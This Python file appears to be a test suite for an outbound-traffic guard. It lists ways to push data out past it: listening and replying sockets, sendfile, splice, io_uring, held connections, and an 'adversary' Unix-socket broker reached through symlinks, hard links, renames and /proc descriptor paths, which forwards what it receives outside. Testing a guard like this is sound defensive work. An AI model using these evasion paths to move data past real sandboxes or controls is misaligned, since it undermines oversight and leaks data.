@technique("network", "vsock: connect by context id", "vsock", who="network.service")
def vsock_connect(t):
    one = new(40, STREAM)
    one.settimeout(1)
    try:
        one.connect((2, 1024))
    except PermissionError:
        raise
    except OSError as error:
        return error.errno in (19, 104, 110, 111) or isinstance(error, TimeoutError)
    return True


# ---- what others come and get ----------------------------------------------------------------------------------------


def ask(t, port=OTHER_PORT, protocol="tcp"):
    put(f"{t.arrived_folder}/get-_{protocol}_{t.outside4}_{port}", b"", os.O_WRONLY | os.O_CREAT)


def listening(t, port, address=None):
    one = listener(port, address=address or t.outside4)
    one.settimeout(15)
    return one


def serve(t, server):
    port = server.getsockname()[1]
    ask(t, port)
    peer = server.accept()[0]
    peer.settimeout(15)
    peer.recv(16)
    peer.sendall(t.data)


@sends("an accepted connection", "reply", who="reply.service")
def reply(t):
    serve(t, listening(t, 5001))


@sends("an accepted connection", "reply", who="reply.service")
def reply_by_write(t):
    server = listening(t, 5002)
    ask(t, 5002)
    peer = server.accept()[0]
    os.write(peer.fileno(), t.data)


@sends("an accepted connection", "reply", who="reply.service")
def reply_by_sendfile(t):
    path = f"{t.open}/{t.mark}"
    put(path, t.data, os.O_RDWR | os.O_CREAT)
    server = listening(t, 5003)
    ask(t, 5003)
    peer = server.accept()[0]
    os.sendfile(peer.fileno(), os.open(path, os.O_RDONLY), 0, 4096)


@sends("an accepted connection", "reply", who="reply.service")
def reply_by_splice(t):
    server = listening(t, 5004)
    ask(t, 5004)
    splice_from_pipe(server.accept()[0], t.data)


def _accepted(port, keep):
    def held(t):
        server = listening(t, port)
        ask(t, port)
        return server.accept()[0], server if keep else server.close()

    return held


@sends("a connection accepted before", "reply", who="reply.service", held=_accepted(5005, True))
def held_reply(t, held):
    held[0].sendall(t.data)


@sends(
    "a connection accepted before, its listener closed since",
    "reply",
    who="reply.service",
    held=_accepted(5014, False),
    open="which side a connection is from is known of a port that is listened on when the guard comes; otherwise what goes "
    "through it is `send`",
    closed_by={"deny": ["send"], "subjects": ["u-reply"], "destinations": {"not": ["vault"]}},
)
def held_reply_without_listener(t, held):
    held[0].sendall(t.data)


@sends("bind, then serve", "bind", who="bind.service")
def bind(t):
    serve(t, listening(t, 5006))


@sends("bind, then serve", "bind", who="bind.service")
def bind_any(t):
    serve(t, listening(t, 5007, "0.0.0.0"))


@sends("bind, then serve", "bind", who="bind.service")
def bind_any_ipv6(t):
    serve(t, listening(t, 5008, "::"))


@sends("UDP: bind, then answer", "bind", who="bind.service")
def bind_udp(t):
    with new(INET, DGRAM) as one:
        one.settimeout(15)
        one.bind((t.outside4, 5009))
        ask(t, 5009, "udp")
        peer = one.recvfrom(16)[1]
        one.sendto(t.data, peer)


@sends("listen, then serve", "listen", who="listen.service")
def listen(t):
    serve(t, listening(t, 5010))


@sends("listen, then serve", "listen", who="listen.service")
def listen_without_bind(t):
    server = new(INET, STREAM)
    server.settimeout(15)
    server.listen(5)
    serve(t, server)


@sends("accept, then serve", "accept", who="accept.service")
def accept(t):
    serve(t, listening(t, 5011))


@sends("accept, then serve", "accept", who="accept.service", held=lambda t: listening(t, 5012))
def accept_on_held(t, server):
    serve(t, server)


@sends("accept, then serve", "accept", who="accept.service")
def accept_by_uring(t):
    server = listening(t, 5013)
    ask(t, 5013)
    fd = Ring().do(13, server.fileno())
    os.write(fd, t.data)


# ---- unix sockets of somebody who sends on ---------------------------------------------------------------------------


def broker(t, kind=STREAM, abstract=False, path=None):
    """Somebody else's service: what it gets, it sends outside."""
    address = f"\0adversary-{t.mark}" if abstract else path or f"{t.run}/{t.technique.name}.sock"
    t.kept["address"] = address
    if not abstract:
        gone(address)
    one = socket.socket(socket.AF_UNIX, kind)
    one.bind(address)
    if not abstract:
        os.chmod(address, 0o777)
    if kind != DGRAM:
        one.listen(8)

    def pass_on(data):
        with socket.socket(INET, DGRAM) as out:
            out.sendto(data, (t.outside4, t.port))

    def handle(peer):
        while True:
            data = peer.recv(65536)
            if not data:
                return
            pass_on(data)

    def serve_all():
        while True:
            if kind == DGRAM:
                pass_on(one.recv(65536))
            else:
                threading.Thread(target=handle, args=(one.accept()[0],), daemon=True).start()

    t.helper(serve_all, "nobody")
    one.close()


def to_broker(t, kind=STREAM, address=None):
    with socket.socket(socket.AF_UNIX, kind) as one:
        one.connect(address or t.kept["address"])
        one.send(t.data)


def brokered(what, ready=broker, **more):
    return sends(what, "unix-connect", ready=ready, **more)


@brokered("unix socket: connect by path")
def unix_stream(t):
    to_broker(t)


@brokered("unix socket: connect by path", lambda t: broker(t, socket.SOCK_SEQPACKET))
def unix_packets(t):
    to_broker(t, socket.SOCK_SEQPACKET)


@brokered("unix socket: datagrams by path", lambda t: broker(t, DGRAM))
def unix_datagram(t):
    to_broker(t, DGRAM)


@brokered("unix socket: datagrams by path", lambda t: broker(t, DGRAM))
def unix_datagram_sendto(t):
    with socket.socket(socket.AF_UNIX, DGRAM) as one:
        one.sendto(t.data, t.kept["address"])


@brokered("unix socket: abstract name", lambda t: broker(t, abstract=True))
def unix_abstract(t):
    to_broker(t)


@brokered("unix socket: abstract name", lambda t: broker(t, DGRAM, abstract=True))
def unix_abstract_datagram(t):
    with socket.socket(socket.AF_UNIX, DGRAM) as one:
        one.sendto(t.data, t.kept["address"])


@brokered("unix socket: another path to it")
def unix_by_symlink(t):
    gone(t.own)
    os.symlink(t.kept["address"], t.own)
    to_broker(t, address=t.own)


@brokered("unix socket: another path to it")
def unix_by_descriptor(t):
    to_broker(t, address=f"/proc/self/fd/{os.open(t.kept['address'], os.O_PATH)}")


@brokered("unix socket: another path to it")
def unix_by_working_directory(t):
    os.chdir(t.run)
    to_broker(t, address=os.path.basename(t.kept["address"]))


@brokered("unix socket: another path to it")
def unix_by_hard_link(t):
    gone(t.own)
    os.link(t.kept["address"], t.own)
    to_broker(t, address=t.own)


@brokered("unix socket: another path to it")
def unix_by_rename(t):
    gone(t.own)
    os.rename(t.kept["address"], t.own)
    to_broker(t, address=t.own)


@brokered("unix socket: io_uring")
def unix_by_uring(t):
    with socket.socket(socket.AF_UNIX) as one:
        name = struct.pack("=H", 1) + t.kept["address"].encode() + b"\0"
        ring = Ring()
        ring.do(Ring.CONNECT, one.fileno(), name, 0, len(name))
        ring.do(Ring.SEND, one.fileno(), t.data, len(t.data))


def _held_unix(kind):
    def held(t):
        one = socket.socket(socket.AF_UNIX, kind)
        one.connect(t.kept["address"])
        return one

    return held


@brokered("unix socket: datagrams, connected before", lambda t: t.child or broker(t, DGRAM), held=_held_unix(DGRAM))
def held_unix_datagram(t, one):
    one.send(t.data)


@brokered("unix socket: a stream connected before", lambda t: t.child or broker(t), held=_held_unix(STREAM))
def held_unix_stream(t, one):
    one.send(t.data)
